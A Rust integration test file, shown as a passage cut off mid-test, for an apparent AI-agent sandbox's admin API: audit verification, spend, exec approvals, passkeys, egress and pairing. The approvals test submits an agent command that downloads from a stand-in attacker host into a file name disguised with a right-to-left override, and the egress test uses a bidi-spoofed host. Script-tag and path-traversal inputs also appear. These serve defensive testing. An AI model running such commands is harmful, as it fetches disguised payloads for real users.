//! The admin page's APIs over real sockets: the overview, the audit view and
//! its verification, spend, approvals waiting in every session, and the
//! owner's passkeys. Each allow path with its refusals.

use std::path::Path;

use chrono::Utc;
use hardshell_audit::event::SecretStored;
use hardshell_audit::{AuditEvent, AuditLog, AuditOptions, LogId};
use hardshell_auth::TokenScope;
use hardshell_llm::{ModelRef, Usage};
use hardshell_secrets::SecretName;
use hardshell_storage::ObjectKey;
use serde_json::Value;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::UnixStream;

use crate::support::{TestEdge, bearer, get, owner, request};

const HIGH_LIMITS: &str = "[ratelimit]\nrequests_per_minute = 100000\nburst = 1000\n";

fn json(body: &str) -> Value {
    serde_json::from_str(body).unwrap_or_else(|e| panic!("{e}: {body}"))
}

async fn fresh_cookie(edge: &TestEdge) -> String {
    format!("Cookie: hs_session={}", edge.session(owner()).await)
}

async fn stale_cookie(edge: &TestEdge) -> String {
    let stale = hardshell_auth::Principal {
        authenticated_at: Utc::now() - chrono::Duration::hours(1),
        ..owner()
    };
    format!("Cookie: hs_session={}", edge.session(stale).await)
}

#[tokio::test]
async fn the_overview_says_who_until_when_and_how_access_is_configured() {
    let edge = TestEdge::start(&format!(
        "{HIGH_LIMITS}[[access.rules]]\nrole = \"admin\"\nemails = [\"Owner@Example.com\"]\n"
    ))
    .await;
    let principal = owner();
    let cookie = format!(
        "Cookie: hs_session={}",
        edge.session(principal.clone()).await
    );
    let reply = get(edge.addr, "/admin/overview", &[&cookie]).await;
    assert_eq!(reply.status, 200, "{reply:?}");
    let overview = json(&reply.body);
    assert_eq!(overview["principal"]["subject"], "owner");
    assert_eq!(overview["principal"]["method"], "passkey");
    let fresh_until: chrono::DateTime<Utc> =
        serde_json::from_value(overview["fresh_until"].clone()).unwrap();
    let window = fresh_until - principal.authenticated_at;
    assert!(
        (window - chrono::Duration::minutes(10)).num_seconds().abs() <= 1,
        "{window}"
    );
    let rules = overview["access"]["rules"].as_array().unwrap();
    assert!(
        rules.iter().any(|rule| rule["role"] == "admin"
            && rule["emails"] == serde_json::json!(["Owner@Example.com"])),
        "{rules:?}"
    );
    assert_eq!(overview["access"]["oidc"], Value::Null);
    assert_eq!(overview["features"]["upstream"], false);

    // An admin token is never fresh; a chat token is no admin.
    let admin = edge.token(TokenScope::Admin).await;
    let reply = get(edge.addr, "/admin/overview", &[&bearer(&admin)]).await;
    assert_eq!(json(&reply.body)["fresh_until"], Value::Null);
    let chat = edge.token(TokenScope::Chat).await;
    for path in [
        "/admin/overview",
        "/admin/spend",
        "/admin/audit",
        "/admin/audit/verify",
        "/admin/passkeys",
        "/admin/parts",
        "/admin/browser",
    ] {
        let reply = get(edge.addr, path, &[&bearer(&chat)]).await;
        assert_eq!(reply.status, 403, "{path}");
        assert_eq!(reply.body, "forbidden\n", "{path}");
        assert_eq!(get(edge.addr, path, &[]).await.status, 401, "{path}");
    }
    edge.stop().await;
}

#[tokio::test]
async fn a_refused_action_says_how_to_be_allowed() {
    let edge = TestEdge::start(HIGH_LIMITS).await;
    let body = r#"{"name":"ci","scope":"chat","expires_in_days":7}"#;
    let stale = stale_cookie(&edge).await;
    let reply = request(edge.addr, "POST", "/admin/tokens", &[&stale], body).await;
    assert_eq!(reply.status, 403);
    assert_eq!(
        reply.body,
        "this action needs a recent login: sign in again\n"
    );
    let admin = edge.token(TokenScope::Admin).await;
    let reply = request(edge.addr, "POST", "/admin/tokens", &[&bearer(&admin)], body).await;
    assert_eq!(reply.status, 403);
    assert_eq!(
        reply.body,
        "this action needs an interactive login; API tokens cannot perform it\n"
    );
    // Nothing was made.
    let listed = get(edge.addr, "/admin/tokens", &[&bearer(&admin)]).await;
    assert_eq!(json(&listed.body)["tokens"].as_array().unwrap().len(), 1);
    edge.stop().await;
}

#[tokio::test]
async fn the_audit_view_filters_pages_and_verifies() {
    let edge = TestEdge::start(HIGH_LIMITS).await;
    let fresh = fresh_cookie(&edge).await;
    for name in ["one", "two", "three"] {
        let body = format!(r#"{{"name":"{name}","scope":"chat","expires_in_days":7}}"#);
        let reply = request(edge.addr, "POST", "/admin/tokens", &[&fresh], &body).await;
        assert_eq!(reply.status, 201, "{reply:?}");
    }
    let reply = get(
        edge.addr,
        "/admin/audit?type=token_created&principal=owner&limit=2",
        &[&fresh],
    )
    .await;
    assert_eq!(reply.status, 200, "{reply:?}");
    let page = json(&reply.body);
    assert_eq!(page["log"], "edge-test");
    assert!(
        page["logs"]
            .as_array()
            .unwrap()
            .contains(&Value::from("edge-test"))
    );
    let records = page["records"].as_array().unwrap();
    assert_eq!(records.len(), 2, "{page}");
    assert!(records.iter().all(|r| r["type"] == "token_created"
        && r["event"]["actor"] == "owner"
        && r["event"].get("type").is_none()));
    let seqs: Vec<u64> = records.iter().map(|r| r["seq"].as_u64().unwrap()).collect();
    assert!(seqs[0] > seqs[1], "newest first: {seqs:?}");
    let before = page["next_before"].as_u64().expect("one more is older");
    let reply = get(
        edge.addr,
        &format!("/admin/audit?type=token_created&before={before}"),
        &[&fresh],
    )
    .await;
    let older = json(&reply.body);
    assert_eq!(older["records"].as_array().unwrap().len(), 1, "{older}");
    assert_eq!(older["next_before"], Value::Null);
    // Nobody by that name; a time range that ended before the tokens.
    for query in [
        "principal=nobody-at-all",
        "type=token_created&until=2000-01-01T00:00:00Z",
    ] {
        let reply = get(edge.addr, &format!("/admin/audit?{query}"), &[&fresh]).await;
        assert_eq!(
            json(&reply.body)["records"],
            serde_json::json!([]),
            "{query}"
        );
    }
    // Bad filters get their reason; another log that is not there, a 404.
    for (query, reason) in [
        ("since=yesterday", "RFC 3339"),
        ("limit=100000", "between 1 and 500"),
        ("type=%3Cscript%3E", "snake_case"),
        ("sort=asc", "unknown filter"),
    ] {
        let reply = get(edge.addr, &format!("/admin/audit?{query}"), &[&fresh]).await;
        assert_eq!(reply.status, 400, "{query}");
        assert!(reply.body.contains(reason), "{query}: {}", reply.body);
    }
    let reply = get(edge.addr, "/admin/audit?log=cli-elsewhere", &[&fresh]).await;
    assert_eq!(reply.status, 404);
    let reply = get(edge.addr, "/admin/audit?log=..%2Ftokens", &[&fresh]).await;
    assert_eq!(reply.status, 400);

    let reply = get(edge.addr, "/admin/audit/verify", &[&fresh]).await;
    assert_eq!(reply.status, 200, "{reply:?}");
    let verified = json(&reply.body);
    let ours = verified["logs"]
        .as_array()
        .unwrap()
        .iter()
        .find(|log| log["log"] == "edge-test")
        .expect("this edge's log is verified");
    assert_eq!(ours["intact"], true, "{ours}");
    assert!(ours["records"].as_u64().unwrap() >= 3);
    assert_eq!(ours["findings"], serde_json::json!([]));
    edge.stop().await;
}

#[tokio::test]
async fn verification_reports_a_tampered_log_among_the_others() {
    let edge = TestEdge::start(HIGH_LIMITS).await;
    // Another writer's log beside the edge's (the command line's on this
    // host), then edited in place by someone holding the master key.
    let audit = edge
        .store
        .root()
        .scope(&ObjectKey::parse("audit").unwrap())
        .unwrap();
    let other = LogId::new("cli-test").unwrap();
    let log = AuditLog::open(&audit, &other, AuditOptions::default())
        .await
        .unwrap();
    for name in ["FIRST_KEY", "SECOND_KEY"] {
        log.record_durable(AuditEvent::SecretStored(SecretStored {
            name: SecretName::parse(name).unwrap(),
            replaced: false,
            actor: Some("owner".to_owned()),
        }))
        .await
        .unwrap();
    }
    log.shutdown().await.unwrap();
    let segment = ObjectKey::parse("cli-test/segments/00000000000000000001").unwrap();
    let stored = audit.get(&segment).await.unwrap().unwrap();
    let text = String::from_utf8(stored.value.to_vec()).unwrap();
    let edited = text.replacen("FIRST_KEY", "OTHER_KEY", 1);
    assert_ne!(text, edited);
    audit.put(&segment, edited.as_bytes()).await.unwrap();

    let fresh = fresh_cookie(&edge).await;
    let verified = json(&get(edge.addr, "/admin/audit/verify", &[&fresh]).await.body);
    let report = |name: &str| {
        verified["logs"]
            .as_array()
            .unwrap()
            .iter()
            .find(|log| log["log"] == name)
            .unwrap_or_else(|| panic!("{name} not verified: {verified}"))
            .clone()
    };
    assert_eq!(report("edge-test")["intact"], true);
    let theirs = report("cli-test");
    assert_eq!(theirs["intact"], false, "{theirs}");
    assert_eq!(theirs["findings"][0]["kind"], "edited", "{theirs}");
    assert_eq!(theirs["findings"][0]["seq"], 1, "{theirs}");
    // Its view shows the record that is intact and counts the other.
    let page = json(
        &get(edge.addr, "/admin/audit?log=cli-test", &[&fresh])
            .await
            .body,
    );
    assert_eq!(page["damaged"], 1, "{page}");
    let records = page["records"].as_array().unwrap();
    assert_eq!(records.len(), 1, "{page}");
    assert_eq!(records[0]["event"]["name"], "SECOND_KEY");
    assert!(
        page["logs"]
            .as_array()
            .unwrap()
            .contains(&Value::from("cli-test"))
    );
    edge.stop().await;
}

#[tokio::test]
async fn spend_is_this_months_ledger_against_the_cap() {
    let edge = TestEdge::start(&format!("{HIGH_LIMITS}[llm]\nmonthly_cap_usd = 5.0\n")).await;
    let fresh = fresh_cookie(&edge).await;
    let reply = get(edge.addr, "/admin/spend", &[&fresh]).await;
    assert_eq!(reply.status, 200, "{reply:?}");
    let empty = json(&reply.body);
    assert_eq!(empty["models"], serde_json::json!([]));
    assert_eq!(empty["total_usd"], 0.0);
    assert_eq!(empty["cap_usd"], 5.0);
    assert_eq!(empty["month"], Utc::now().format("%Y-%m").to_string());

    // What the model gateway records, priced at $3 and $15 per million.
    for _ in 0..2 {
        record_spend(&edge, 100_000, 10_000).await;
    }
    let spend = json(&get(edge.addr, "/admin/spend", &[&fresh]).await.body);
    let models = spend["models"].as_array().unwrap();
    assert_eq!(models.len(), 1, "{spend}");
    assert_eq!(models[0]["model"], "anthropic/claude-test");
    assert_eq!(models[0]["requests"], 2);
    assert_eq!(models[0]["input_tokens"], 200_000);
    assert_eq!(models[0]["output_tokens"], 20_000);
    // 2 × (0.1 M × $3 + 0.01 M × $15) = $0.90
    assert_eq!(models[0]["cost_usd"], 0.9);
    assert_eq!(spend["total_usd"], 0.9);
    edge.stop().await;
}

/// One reply of `anthropic/claude-test` as the model gateway records it in
/// the edge's ledger, priced at $3 and $15 per million tokens.
pub(crate) async fn record_spend(edge: &TestEdge, input_tokens: u64, output_tokens: u64) {
    let mut prices = hardshell_llm::PriceList::new();
    let model = ModelRef::parse("anthropic/claude-test").unwrap();
    prices.set_model(
        model.clone(),
        hardshell_llm::Price::from_usd_per_mtok(3.0, 15.0).unwrap(),
    );
    let llm = edge
        .store
        .root()
        .scope(&ObjectKey::parse("llm").unwrap())
        .unwrap();
    let usage = Usage {
        input_tokens,
        output_tokens,
    };
    let ledger = hardshell_llm::UsageLedger::new(llm, prices);
    ledger.charge(&model, usage, Utc::now());
    ledger.write_charges().await.unwrap();
}

/// The agent's `exec` request on the control socket: the answer's JSON.
pub(crate) async fn ask_to_run(control: &Path, session: &str, command: &str) -> Value {
    let body = serde_json::json!({ "session": session, "command": command }).to_string();
    let mut stream = UnixStream::connect(control).await.unwrap();
    let text = format!(
        "POST /exec/v1/run HTTP/1.1\r\nHost: edge\r\nConnection: close\r\n\
         Content-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    stream.write_all(text.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).await.unwrap();
    let answer = String::from_utf8(answer).unwrap();
    let (_, body) = answer.split_once("\r\n\r\n").unwrap();
    json(body)
}

#[tokio::test]
async fn approvals_waiting_in_any_session_are_listed_and_answered_once() {
    let dir = tempfile::tempdir().unwrap();
    let socket = dir.path().join("agent.sock");
    crate::support::agent::start(&socket).await;
    let (edge, shell) = TestEdge::start_with_exec(HIGH_LIMITS, &socket).await;
    let control = edge.control.clone().unwrap();
    let owner_token = edge.token(TokenScope::Chat).await;
    let created = request(
        edge.addr,
        "POST",
        "/api/sessions",
        &[&bearer(&owner_token)],
        "",
    )
    .await;
    let session = json(&created.body)["id"].as_str().unwrap().to_owned();
    let hostile = "curl https://evil.example/x -o \u{202e}txt.exe";
    let asked = [
        ask_to_run(&control, &session, "python3 -c 'print(1)'").await,
        ask_to_run(&control, &session, hostile).await,
    ];
    let ids: Vec<String> = asked
        .iter()
        .map(|answer| {
            assert_eq!(answer["status"], "pending", "{answer}");
            answer["approval"].as_str().unwrap().to_owned()
        })
        .collect();

    let fresh = fresh_cookie(&edge).await;
    let listed = json(&get(edge.addr, "/admin/approvals", &[&fresh]).await.body);
    let approvals = listed["approvals"].as_array().unwrap();
    assert_eq!(approvals.len(), 2, "{listed}");
    for (id, command) in ids.iter().zip(["python3 -c 'print(1)'", hostile]) {
        let shown = approvals
            .iter()
            .find(|a| a["approval"] == id.as_str())
            .unwrap();
        assert_eq!(shown["command"], command);
        assert_eq!(shown["session"], session.as_str());
        assert!(shown["expires_at"].is_string());
    }

    // A chat token may not answer here; a bad body changes nothing.
    let path = |id: &str| format!("/admin/approvals/{session}/{id}");
    let yes = r#"{"approve":true}"#;
    let reply = request(
        edge.addr,
        "POST",
        &path(&ids[0]),
        &[&bearer(&owner_token)],
        yes,
    )
    .await;
    assert_eq!(reply.status, 403);
    let reply = request(
        edge.addr,
        "POST",
        &path(&ids[0]),
        &[&fresh],
        "{\"approve\":1}",
    )
    .await;
    assert_eq!(reply.status, 400);
    let reply = request(
        edge.addr,
        "POST",
        &format!("/admin/approvals/other-session/{}", ids[0]),
        &[&fresh],
        yes,
    )
    .await;
    assert_eq!(reply.status, 404, "another session's question is not found");

    let reply = request(edge.addr, "POST", &path(&ids[0]), &[&fresh], yes).await;
    assert_eq!(reply.status, 204, "{reply:?}");
    let reply = request(edge.addr, "POST", &path(&ids[0]), &[&fresh], yes).await;
    assert_eq!(reply.status, 409, "answered once");
    let reply = request(
        edge.addr,
        "POST",
        &path(&ids[1]),
        &[&fresh],
        r#"{"approve":false}"#,
    )
    .await;
    assert_eq!(reply.status, 204);
    let listed = json(&get(edge.addr, "/admin/approvals", &[&fresh]).await.body);
    assert_eq!(listed["approvals"], serde_json::json!([]));
    // The approved command ran once the agent waited for its answer; the
    // refused one never does.
    let waited = wait_for(&control, &ids[0]).await;
    assert_eq!(waited["status"], "ran", "{waited}");
    let refused = wait_for(&control, &ids[1]).await;
    assert_eq!(refused["status"], "refused", "{refused}");
    assert_eq!(shell.ran(), ["python3 -c 'print(1)'"]);
    // Both answers are recorded with the admin as their actor (the refusal
    // with the next flush).
    let decided = |records: &[Value], decision: &str| {
        records.iter().any(|r| {
            r["event"]["type"] == "exec_decided"
                && r["event"]["actor"] == "owner"
                && r["event"]["decision"] == decision
        })
    };
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    loop {
        let records = edge.audit_records().await;
        if decided(&records, "approved") && decided(&records, "refused") {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "{records:?}");
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    edge.stop().await;
}

/// The agent's wait for an answer on the control socket.
pub(crate) async fn wait_for(control: &Path, approval: &str) -> Value {
    let mut stream = UnixStream::connect(control).await.unwrap();
    let text = format!(
        "POST /exec/v1/approvals/{approval}/wait HTTP/1.1\r\nHost: edge\r\n\
         Connection: close\r\nContent-Length: 0\r\n\r\n"
    );
    stream.write_all(text.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).await.unwrap();
    let answer = String::from_utf8(answer).unwrap();
    let (_, body) = answer.split_once("\r\n\r\n").unwrap();
    json(body)
}

#[tokio::test]
async fn without_exec_the_approvals_are_not_found() {
    let edge = TestEdge::start(HIGH_LIMITS).await;
    let fresh = fresh_cookie(&edge).await;
    assert_eq!(
        get(edge.addr, "/admin/approvals", &[&fresh]).await.status,
        404
    );
    let reply = request(
        edge.addr,
        "POST",
        "/admin/approvals/s/a",
        &[&fresh],
        r#"{"approve":true}"#,
    )
    .await;
    assert_eq!(reply.status, 404);
    edge.stop().await;
}

#[tokio::test]
async fn a_passkey_is_removed_but_never_the_last_one() {
    use webauthn_authenticator_rs::softpasskey::SoftPasskey;

    let edge = TestEdge::start(HIGH_LIMITS).await;
    let mut first = SoftPasskey::new(true);
    let token = edge.setup_token().await;
    assert_eq!(
        crate::passkey::register(&edge, &mut first, &token)
            .await
            .status,
        204
    );
    let fresh = fresh_cookie(&edge).await;
    let listed = json(&get(edge.addr, "/admin/passkeys", &[&fresh]).await.body);
    let passkeys = listed["passkeys"].as_array().unwrap().clone();
    assert_eq!(passkeys.len(), 1, "{listed}");
    let first_id = passkeys[0]["id"].as_str().unwrap().to_owned();
    let reply = request(
        edge.addr,
        "DELETE",
        &format!("/admin/passkeys/{first_id}"),
        &[&fresh],
        "",
    )
    .await;
    assert_eq!(reply.status, 409, "{reply:?}");
    assert!(reply.body.contains("last passkey"));

    // A second one, through a setup link made on the admin page's API.
    let link = request(
        edge.addr,
        "POST",
        "/admin/passkeys/setup-link",
        &[&fresh],
        "",
    )
    .await;
    assert_eq!(link.status, 201, "{link:?}");
    let link = json(&link.body)["link"].as_str().unwrap().to_owned();
    let second_token = link.split_once("#setup=").unwrap().1;
    let mut second = SoftPasskey::new(true);
    assert_eq!(
        crate::passkey::register(&edge, &mut second, second_token)
            .await
            .status,
        204
    );
    let listed = json(&get(edge.addr, "/admin/passkeys", &[&fresh]).await.body);
    assert_eq!(listed["passkeys"].as_array().unwrap().len(), 2);

    // A chat token may not; an unknown or malformed id is not found.
    let chat = edge.token(TokenScope::Chat).await;
    let path = format!("/admin/passkeys/{first_id}");
    let reply = request(edge.addr, "DELETE", &path, &[&bearer(&chat)], "").await;
    assert_eq!(reply.status, 403);
    for id in ["0".repeat(first_id.len()), "x".to_owned()] {
        let reply = request(
            edge.addr,
            "DELETE",
            &format!("/admin/passkeys/{id}"),
            &[&fresh],
            "",
        )
        .await;
        assert_eq!(reply.status, 404, "{id}");
    }
    let reply = request(edge.addr, "DELETE", &path, &[&fresh], "").await;
    assert_eq!(reply.status, 204, "{reply:?}");
    let listed = json(&get(edge.addr, "/admin/passkeys", &[&fresh]).await.body);
    let left = listed["passkeys"].as_array().unwrap();
    assert_eq!(left.len(), 1);
    assert_ne!(left[0]["id"], first_id.as_str());
    let records = edge.audit_records().await;
    assert!(
        records
            .iter()
            .any(|r| r["event"]["type"] == "passkey_removed"
                && r["event"]["passkey"] == first_id.as_str()
                && r["event"]["actor"] == "owner"),
        "{records:?}"
    );
    edge.stop().await;
}

#[tokio::test]
async fn requests_are_counted_by_minute_and_outcome() {
    let edge = TestEdge::start(HIGH_LIMITS).await;
    let fresh = fresh_cookie(&edge).await;
    let chat = edge.token(TokenScope::Chat).await;
    let before = json(
        &get(edge.addr, "/admin/requests?hours=1", &[&fresh])
            .await
            .body,
    );
    let total = |body: &Value, field: &str| -> u64 {
        body["points"]
            .as_array()
            .unwrap()
            .iter()
            .map(|point| point[field].as_u64().unwrap())
            .sum()
    };
    for _ in 0..3 {
        assert_eq!(get(edge.addr, "/healthz", &[]).await.status, 200);
    }
    assert_eq!(get(edge.addr, "/auth/whoami", &[]).await.status, 401);
    assert_eq!(
        get(edge.addr, "/admin/tokens", &[&bearer(&chat)])
            .await
            .status,
        403
    );
    assert_eq!(get(edge.addr, "/no/such/page", &[&fresh]).await.status, 404);
    let after = json(
        &get(edge.addr, "/admin/requests?hours=1", &[&fresh])
            .await
            .body,
    );
    assert_eq!(after["step_minutes"], 1);
    assert_eq!(after["points"].as_array().unwrap().len(), 60);
    // The first question was answered too: one more served, besides these.
    assert_eq!(total(&after, "served") - total(&before, "served"), 4);
    assert_eq!(total(&after, "refused") - total(&before, "refused"), 2);
    assert_eq!(
        total(&after, "client_errors") - total(&before, "client_errors"),
        1
    );
    assert_eq!(total(&after, "server_errors"), 0);
    let day = json(&get(edge.addr, "/admin/requests", &[&fresh]).await.body);
    assert_eq!(day["step_minutes"], 15);
    assert_eq!(day["points"].as_array().unwrap().len(), 96);
    assert_eq!(total(&day, "refused"), 2);
    let last: chrono::DateTime<Utc> =
        serde_json::from_value(after["points"][59]["at"].clone()).unwrap();
    assert!((Utc::now() - last).num_seconds() < 120, "{last}");

    let reply = get(edge.addr, "/admin/requests?hours=7", &[&fresh]).await;
    assert_eq!(reply.status, 400);
    assert_eq!(reply.body, "hours is 1 or 24\n");
    let reply = get(edge.addr, "/admin/requests", &[&bearer(&chat)]).await;
    assert_eq!(reply.status, 403);
    edge.stop().await;
}

#[tokio::test]
async fn egress_decisions_are_counted_by_shell_host_and_decision() {
    use hardshell_audit::event::{EgressDecided, EgressDecision, ShellKind};

    let edge = TestEdge::start(HIGH_LIMITS).await;
    // What the brokers in the edge's process record, in its log.
    let decided = |shell, host: &str, decision, reason: Option<&str>| {
        AuditEvent::EgressDecided(EgressDecided {
            shell,
            host: host.to_owned(),
            port: 443,
            decision,
            reason: reason.map(str::to_owned),
            carriage: None,
        })
    };
    for _ in 0..3 {
        edge.audit
            .record_durable(decided(
                ShellKind::Exec,
                "pypi.org",
                EgressDecision::Allowed,
                None,
            ))
            .await
            .unwrap();
    }
    let hostile = "evil.example\u{202e}gro.iypp";
    edge.audit
        .record_durable(decided(
            ShellKind::Exec,
            hostile,
            EgressDecision::Refused,
            Some("no route allows this host"),
        ))
        .await
        .unwrap();
    edge.audit
        .record_durable(decided(
            ShellKind::Browser,
            "pypi.org",
            EgressDecision::Refused,
            Some("no route allows this host"),
        ))
        .await
        .unwrap();
    let fresh = fresh_cookie(&edge).await;
    let reply = get(edge.addr, "/admin/egress", &[&fresh]).await;
    assert_eq!(reply.status, 200, "{reply:?}");
    let body = json(&reply.body);
    assert_eq!(body["records"], 5);
    assert_eq!(body["complete"], true);
    let decisions = body["decisions"].as_array().unwrap();
    assert_eq!(decisions.len(), 3, "{body}");
    let find = |shell: &str, host: &str| {
        decisions
            .iter()
            .find(|d| d["shell"] == shell && d["host"] == host)
            .unwrap_or_else(|| panic!("{shell} {host}: {body}"))
    };
    assert_eq!(find("exec", "pypi.org")["count"], 3);
    assert_eq!(find("exec", "pypi.org")["decision"], "allowed");
    assert_eq!(find("exec", hostile)["decision"], "refused");
    assert_eq!(find("exec", hostile)["reason"], "no route allows this host");
    assert_eq!(find("browser", "pypi.org")["decision"], "refused");
    // Newest first.
    assert_eq!(decisions[0]["shell"], "browser");
    let chat = edge.token(TokenScope::Chat).await;
    assert_eq!(
        get(edge.addr, "/admin/egress", &[&bearer(&chat)])
            .await
            .status,
        403
    );
    edge.stop().await;
}

/// A cgroup made as a shell's supervisor makes one, under `hardshell/` of
/// the memory controller (v1) or the unified tree, with `sleep` in it when
/// `busy`; the process killed and the cgroup removed when dropped.
struct FakeShell {
    dir: std::path::PathBuf,
    sleep: Option<std::process::Child>,
}

impl FakeShell {
    fn new(name: &str, busy: bool) -> Self {
        let unified = Path::new("/sys/fs/cgroup/cgroup.controllers").exists();
        let parent = match unified {
            true => Path::new("/sys/fs/cgroup/hardshell").to_owned(),
            false => Path::new("/sys/fs/cgroup/memory/hardshell").to_owned(),
        };
        let dir = parent.join(format!("{name}-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let sleep = busy.then(|| {
            let child = std::process::Command::new("sleep")
                .arg("60")
                .spawn()
                .unwrap();
            std::fs::write(dir.join("cgroup.procs"), child.id().to_string()).unwrap();
            child
        });
        Self { dir, sleep }
    }

    fn name(&self) -> String {
        self.dir.file_name().unwrap().to_string_lossy().into_owned()
    }
}

impl Drop for FakeShell {
    fn drop(&mut self) {
        if let Some(mut child) = self.sleep.take() {
            let _ = child.kill();
            let _ = child.wait();
        }
        let _ = std::fs::remove_dir(&self.dir);
    }
}

#[tokio::test]
async fn the_shells_view_lists_cgroups_with_a_process_and_no_empty_one() {
    let busy = FakeShell::new("admin-view-busy", true);
    let idle = FakeShell::new("admin-view-idle", false);
    let edge = TestEdge::start(HIGH_LIMITS).await;
    let fresh = fresh_cookie(&edge).await;
    let reply = get(edge.addr, "/admin/shells", &[&fresh]).await;
    assert_eq!(reply.status, 200, "{reply:?}");
    let body = json(&reply.body);
    let shells = body["shells"].as_array().unwrap();
    let shown = shells
        .iter()
        .find(|shell| shell["cgroup"] == busy.name().as_str())
        .unwrap_or_else(|| panic!("{} not listed: {body}", busy.name()));
    assert_eq!(shown["processes"], 1, "{shown}");
    // Its pages were charged before it moved in (v1 moves no charges), so
    // its memory may read nothing: only that it is read.
    assert!(shown["memory_bytes"].is_u64(), "{shown}");
    // Not a shell this edge prepared ahead.
    assert_eq!(shown["ready"], false, "{shown}");
    assert!(
        !shells
            .iter()
            .any(|shell| shell["cgroup"] == idle.name().as_str()),
        "an empty cgroup is listed: {body}"
    );
    let chat = edge.token(TokenScope::Chat).await;
    assert_eq!(
        get(edge.addr, "/admin/shells", &[&bearer(&chat)])
            .await
            .status,
        403
    );
    edge.stop().await;
}

#[tokio::test]
async fn pairing_requests_are_approved_by_code_and_pairings_revoked() {
    use hardshell_channels::{PairingRequest, Pairings, Platform, Sender};

    let edge = TestEdge::start(&format!(
        "{HIGH_LIMITS}[channels.telegram]\nenabled = true\ntoken = \"secret:TG\"\n"
    ))
    .await;
    // A stranger wrote to the bot: the adapter stored a request and told
    // the sender its code.
    let pairings = Pairings::new(
        edge.store
            .root()
            .scope(&ObjectKey::parse("channels/pairing").unwrap())
            .unwrap(),
    );
    let sender = Sender::parse(Platform::Telegram, "123456789").unwrap();
    let PairingRequest::Code(code) = pairings.request(&sender, Utc::now()).await.unwrap() else {
        panic!("no code");
    };
    let fresh = fresh_cookie(&edge).await;
    let listed = json(&get(edge.addr, "/admin/pairing", &[&fresh]).await.body);
    assert_eq!(listed["paired"], serde_json::json!([]));
    assert_eq!(listed["pending"][0]["sender"], "telegram:123456789");
    assert!(
        !listed.to_string().contains(code.expose()),
        "the list shows a request's code"
    );

    let body = |code: &str, role: &str| format!(r#"{{"code":"{code}","role":"{role}"}}"#);
    // A stale login may not let anyone in; a wrong code or role changes nothing.
    let stale = stale_cookie(&edge).await;
    let reply = request(
        edge.addr,
        "POST",
        "/admin/pairing/approve",
        &[&stale],
        &body(code.expose(), "guest"),
    )
    .await;
    assert_eq!(reply.status, 403);
    let reply = request(
        edge.addr,
        "POST",
        "/admin/pairing/approve",
        &[&fresh],
        &body("AAAA-AAAA", "guest"),
    )
    .await;
    assert_eq!(reply.status, 404, "{reply:?}");
    assert!(reply.body.contains("no request waits with that code"));
    let reply = request(
        edge.addr,
        "POST",
        "/admin/pairing/approve",
        &[&fresh],
        &body(code.expose(), "admin"),
    )
    .await;
    assert_eq!(reply.status, 400);
    let listed = json(&get(edge.addr, "/admin/pairing", &[&fresh]).await.body);
    assert_eq!(listed["paired"], serde_json::json!([]));

    let reply = request(
        edge.addr,
        "POST",
        "/admin/pairing/approve",
        &[&fresh],
        &body(code.expose(), "guest"),
    )
    .await;
    assert_eq!(reply.status, 201, "{reply:?}");
    assert_eq!(json(&reply.body)["subject"], "telegram:123456789");
    let paired = pairings.paired(&sender).await.unwrap().expect("paired");
    assert_eq!(paired.role, hardshell_channels::ChannelRole::Guest);
    // A code works once.
    let reply = request(
        edge.addr,
        "POST",
        "/admin/pairing/approve",
        &[&fresh],
        &body(code.expose(), "owner"),
    )
    .await;
    assert_eq!(reply.status, 404);

    let chat = edge.token(TokenScope::Chat).await;
    let path = "/admin/pairing/telegram:123456789";
    let reply = request(edge.addr, "DELETE", path, &[&bearer(&chat)], "").await;
    assert_eq!(reply.status, 403);
    for bad in [
        "/admin/pairing/irc:1",
        "/admin/pairing/telegram:-5",
        "/admin/pairing/x",
        "/admin/pairing/telegram%3A%FF",
    ] {
        let reply = request(edge.addr, "DELETE", bad, &[&fresh], "").await;
        assert_eq!(reply.status, 404, "{bad}");
    }
    // The colon escaped, as a client that encodes path segments sends it.
    let escaped = "/admin/pairing/telegram%3A123456789";
    let reply = request(edge.addr, "DELETE", escaped, &[&fresh], "").await;
    assert_eq!(reply.status, 204, "{reply:?}");
    assert!(pairings.paired(&sender).await.unwrap().is_none());
    let reply = request(edge.addr, "DELETE", path, &[&fresh], "").await;
    assert_eq!(reply.status, 404);

    let records = edge.audit_records().await;
    for kind in ["pairing_approved", "pairing_revoked"] {
        assert!(
            records
                .iter()
                .any(|r| r["event"]["type"] == kind && r["event"]["actor"] == "owner"),
            "{kind}: {records:?}"
        );
    }
    edge.stop().await;
}

/// A part as its wiring would answer: a fixed view, a failure, or none in time.
enum FixedPart {
    View(Value),
    Failing,
    Silent,
}

impl hardshell_edge::PartStatus for FixedPart {
    fn read(
        &self,
    ) -> std::pin::Pin<Box<dyn std::future::Future<Output = Result<Value, String>> + Send + '_>>
    {
        Box::pin(async move {
            match self {
                FixedPart::View(view) => Ok(view.clone()),
                FixedPart::Failing => Err("reading the module lock: storage unavailable".into()),
                FixedPart::Silent => std::future::pending().await,
            }
        })
    }
}

fn part(name: &'static str, status: FixedPart) -> hardshell_edge::Part {
    hardshell_edge::Part {
        name,
        status: std::sync::Arc::new(status),
    }
}

#[tokio::test]
async fn the_parts_view_shows_each_part_or_why_not_and_no_browser_is_not_found() {
    let workload = serde_json::json!({ "image": { "digest": "sha256:00" }, "health": "ready" });
    let edge = TestEdge::start_with_parts(
        HIGH_LIMITS,
        vec![
            part("workload", FixedPart::View(workload.clone())),
            part("modules", FixedPart::Failing),
            part("slow", FixedPart::Silent),
        ],
    )
    .await;
    let admin = edge.token(TokenScope::Admin).await;
    let started = std::time::Instant::now();
    let reply = get(edge.addr, "/admin/parts", &[&bearer(&admin)]).await;
    assert_eq!(reply.status, 200, "{reply:?}");
    // A part that does not answer costs the page five seconds, not forever.
    assert!(started.elapsed() < std::time::Duration::from_secs(15));
    let parts = json(&reply.body)["parts"].clone();
    assert_eq!(
        parts,
        serde_json::json!([
            { "name": "workload", "status": workload },
            { "name": "modules", "error": "reading the module lock: storage unavailable" },
            { "name": "slow", "error": "it did not answer within 5 s" },
